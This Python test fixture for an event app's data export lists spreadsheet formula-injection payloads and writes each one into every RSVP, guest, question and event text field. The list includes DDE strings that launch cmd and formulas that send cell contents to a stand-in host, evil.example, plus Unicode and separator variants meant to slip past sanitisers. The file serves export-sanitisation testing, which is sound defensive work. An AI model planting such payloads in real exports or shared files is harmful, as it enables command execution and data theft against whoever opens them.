"""Texts that spreadsheets might run, and what puts one into every text that reaches an export."""

import sqlalchemy as sa

from community.core.db import db, transactional
from community.events.models import Event
from community.membership.models import Person
from community.rsvp.models import Rsvp
from community.rsvp.party import Guest
from community.rsvp.question_models import AskedOf, Question, QuestionKind
from community.rsvp.respond import say_yes
from tests.factories.events import an_event
from tests.factories.people import a_member

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=@SUM(1)",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49 30 1234",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\x0b-1",
    "\u00a0=1+1",
    "\u3000@x",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹦1+1",
    "'=1+1",
    "'plain",
    '"=1+1"',
    # What separates cells or lines somewhere, quoted or not.
    "x;=1+1",
    "x,=1+1",
    "x;=1+1;y",
    'x;"=1+1;"y',
    'x",=1+1',
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n=1+1",
    "x\u2028=1+1",
    'x;"";=1+1',
    "x; '=1+1",
    "x;'y",
]


def hostile_event() -> Event:
    """An event with a party for each payload: it is in every text of the party and of a question,
    just as it is, whatever the forms would make of it."""
    event = an_event(guests_allowed=1)
    for number, text in enumerate(PAYLOADS):
        rsvp = say_yes(a_member().id, event.id, guests=[Guest("Bo")], dietary="x", note="x")
        _fill(rsvp, number, text)
    _name(event.id)
    return event


@transactional
def _fill(rsvp: Rsvp, number: int, text: str) -> None:
    rsvps, heads = (db.metadata.tables[name] for name in ("rsvps", "attendees"))
    asked = {"event_id": rsvp.event_id, "position": number, "asked_of": AskedOf.EACH}
    question = Question(kind=QuestionKind.LONG_TEXT, label=text, **asked)
    db.session.add(question)
    db.session.flush()
    answer = {"label": text, "kind": question.kind.value, "text": text, "options": []}
    facts = {"name": text, "organization": text, "job_title": text}
    db.session.execute(sa.update(Person).where(Person.id == rsvp.person_id).values(facts))
    db.session.execute(sa.update(rsvps).where(rsvps.c.id == rsvp.id).values(note=text))
    given = {"name": text, "dietary": text, "answers": {str(question.id): answer}}
    db.session.execute(sa.update(heads).where(heads.c.rsvp_id == rsvp.id).values(given))


@transactional
def _name(event_id: int) -> None:
    db.session.execute(sa.update(Event).where(Event.id == event_id).values(title=PAYLOADS[2]))
